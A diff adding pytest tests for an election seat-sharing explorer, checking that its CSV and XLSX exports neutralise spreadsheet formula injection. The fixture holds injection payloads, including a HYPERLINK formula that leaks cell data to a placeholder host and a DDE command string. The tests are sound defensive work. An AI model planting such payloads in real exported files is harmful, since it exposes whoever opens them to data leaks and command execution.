@@ -178,3 +178,142 @@ def test_the_window_keeps_names_ids_and_notes_within_what_it_can_load_again(qtbo
     assert dlg.build().startswith("Source: a note has at most 10,000 characters; this one has 10,001")
     dlg.source.setPlainText("Reported")
     assert dlg.build() == MustHave(id="inc-jind", partner="INC", seats=(36,), source="Reported")
+
+
+# -- exports never write a formula from data --------------------------------------------------
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+HOSTILE_SEATS = [13, 15, 16, 17]
+
+
+def hostile_scenario(name="=HYPERLINK(\"http://example.invalid/?n=\"&A1)"):
+    """Built past the file checks (which refuse all of this on load): codes, names, rule ids and
+    notes that a spreadsheet would run as formulas."""
+    from explorer.core.pools import Partner
+    from explorer.core.rules import MustHave, RuleSet, SeatBounds, SplitVoteRisk
+    partners = (Partner(HOSTILE_CODE, "+Aam Aadmi Party", "#1A5FB4"), Partner("@INC", "-Congress", "#2AA198"))
+    rules = RuleSet("\tTalks", (SeatBounds(id="-bounds", partner=HOSTILE_CODE, minimum=10, maximum=12, asked=15),
+                                MustHave(id="@kalayat", partner="@INC", seats=(16,), source="=cmd|' /C calc'!A0"),
+                                SplitVoteRisk(id="split")))
+    sc = Scenario(DS, partners, rules=rules, name=name, notes="-2+3\r=1")
+    sc.assign(HOSTILE_SEATS, HOSTILE_CODE)
+    sc.assign([1, 2], "@INC")
+    sc.assign([3], "contested")
+    sc.set_assumptions(sc.assumptions.with_swing("BJP", -2.5).with_seat_adjust(36, -4.0))
+    return sc
+
+
+def _evaluate(sc):
+    from explorer.core.engine import Engine
+    return Engine(DS).evaluate(sc)
+
+
+def _is_number(text: str) -> bool:
+    try:
+        float(text)
+        return True
+    except ValueError:
+        return False
+
+
+def _csv_cells(path):
+    import csv
+    with open(path, newline="", encoding="utf-8") as f:
+        return list(csv.reader(f))
+
+
+def _spreadsheet_sees_no_formula(rows) -> None:
+    """What a spreadsheet program makes of the CSV: no text cell begins like a formula, and
+    openpyxl, given the cells, stores none as a formula."""
+    from openpyxl import Workbook
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(FORMULA_STARTS) or _is_number(cell), cell
+    ws = Workbook().active
+    for row in rows:
+        ws.append(row)
+    assert not [c.coordinate for r in ws.iter_rows() for c in r if c.data_type == "f"]
+
+
+def _unquote(v):
+    return v[1:] if isinstance(v, str) and v.startswith("'") and v[1:].startswith(FORMULA_STARTS) else v
+
+
+def test_the_xlsx_sheet_of_a_hostile_scenario_holds_no_formula(tmp_path):
+    import zipfile
+    import openpyxl
+    from explorer.core.exports import write_xlsx
+    sc = hostile_scenario()
+    ev = _evaluate(sc)
+    path = tmp_path / "sheet.xlsx"
+    write_xlsx(path, sc, ev)
+    with zipfile.ZipFile(path) as z:
+        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
+        assert len(sheets) == 4
+        assert not [n for n in sheets if b"<f>" in z.read(n) or b"<f " in z.read(n)]
+    wb = openpyxl.load_workbook(path)
+    assert [c.coordinate for ws in wb.worksheets for r in ws.iter_rows() for c in r if c.data_type == "f"] == []
+    seats = wb["Seats"]
+    assert seats["F1"].value == "pool" and seats["N1"].value == "alliance_margin_pts"
+    pool_cells = [seats.cell(row=ac + 1, column=6) for ac in HOSTILE_SEATS]  # row 1 is the header
+    assert [c.coordinate for c in pool_cells] == ["F14", "F16", "F17", "F18"]
+    assert all(c.value == HOSTILE_CODE and c.data_type == "s" and c.quotePrefix for c in pool_cells)
+    assert seats["F2"].value == "@INC" and seats["F2"].quotePrefix  # seat 1
+    summary = {r[0].value: r[1] for r in wb["Summary"].iter_rows(min_row=2)}
+    assert summary["Scenario"].value == sc.name and summary["Scenario"].quotePrefix
+    head = wb["Summary"]["A1"]
+    assert head.value == "figure" and not head.quotePrefix  # ordinary text is left alone
+    hostile_rows = [c for c in wb["Summary"]["A"] if c.value.startswith(HOSTILE_CODE)]
+    assert [c.value for c in hostile_rows] == [f"{HOSTILE_CODE} contests (alone + contested)",
+                                               f"{HOSTILE_CODE} SC seats alone"]
+    assert all(c.data_type == "s" and c.quotePrefix for c in hostile_rows)
+    assert summary[f"{HOSTILE_CODE} contests (alone + contested)"].value == 5  # 4 alone + 1 contested
+    # numbers stay numbers, negative ones too
+    assumptions = {r[0].value: r[1] for r in wb["Assumptions"].iter_rows(min_row=2)}
+    assert assumptions["Swing BJP (points)"].value == -2.5 and assumptions["Swing BJP (points)"].data_type == "n"
+    assert assumptions["Adjustment Jind (points)"].value == -4.0
+    margins = [seats.cell(row=r, column=14) for r in range(2, 92)]  # alliance_margin_pts
+    assert all(c.data_type == "n" for c in margins) and any(c.value < 0 for c in margins)
+    conflicts = [r[2].value for r in wb["Conflicts"].iter_rows(min_row=2)]
+    assert f"{HOSTILE_CODE} has 4 seats, below its bound of 10 (asked 15)" in conflicts
+
+
+def test_the_seat_csv_of_a_hostile_scenario_reads_back_unchanged_in_meaning(tmp_path):
+    import pandas as pd
+    from explorer.core.exports import seat_sheet, write_seat_csv
+    sc = hostile_scenario()
+    ev = _evaluate(sc)
+    path = tmp_path / "seats.csv"
+    write_seat_csv(path, sc, ev)
+    rows = _csv_cells(path)
+    assert len(rows) == 91
+    _spreadsheet_sees_no_formula(rows)
+    assert rows[13][5] == "'" + HOSTILE_CODE and rows[1][5] == "'@INC"  # seats 13 and 1
+    back = pd.read_csv(path, keep_default_na=False).map(_unquote)
+    pd.testing.assert_frame_equal(back, seat_sheet(sc, ev), check_dtype=False)
+
+
+def test_the_comparison_csv_of_hostile_scenarios_reads_back_unchanged_in_meaning(tmp_path):
+    from explorer.core.exports import compare, write_comparison_csv
+    a = hostile_scenario("=A")
+    b = hostile_scenario("+B, \"quoted\"\nsecond line")
+    b.assign([13, 15], "@INC")
+    cmp = compare(a, _evaluate(a), b, _evaluate(b))
+    assert len(cmp.seats) >= 2 and cmp.conflicts_added + cmp.conflicts_resolved
+    path = tmp_path / "comparison.csv"
+    write_comparison_csv(path, cmp)
+    rows = _csv_cells(path)
+    _spreadsheet_sees_no_formula(rows)
+    assert rows[0] == ["# Comparison: A = =A; B = +B, \"quoted\"\nsecond line"]  # one cell, whatever the names
+    blank = [i for i, r in enumerate(rows) if not r]
+    seats, figures, conflicts = rows[1:blank[0]], rows[blank[0] + 1:blank[1]], rows[blank[1] + 1:]
+    assert seats[0] == list(cmp.seats.columns) and len(seats) == len(cmp.seats) + 1
+    for row, (_, want) in zip(seats[1:], cmp.seats.iterrows()):
+        assert [_unquote(v) for v in row[2:6]] == [want.pool_a, want.pool_b, want.winner_a, want.winner_b]
+        assert int(row[0]) == want.ac_no and float(row[6]) == want.alliance_margin_a
+    assert {13, 15} <= {int(r[0]) for r in seats[1:]}
+    fig = {_unquote(r[0]): r for r in figures[1:]}
+    key = f"{HOSTILE_CODE} contests (alone + contested)"
+    assert [float(v) for v in fig[key][1:]] == [5, 3, -2]  # a number stays a number, negative too
+    assert conflicts[0] == ["conflict", "status"]
+    want = [[m, "added in B"] for m in cmp.conflicts_added] + [[m, "resolved in B"] for m in cmp.conflicts_resolved]
+    assert [[_unquote(c) for c in r] for r in conflicts[1:]] == want
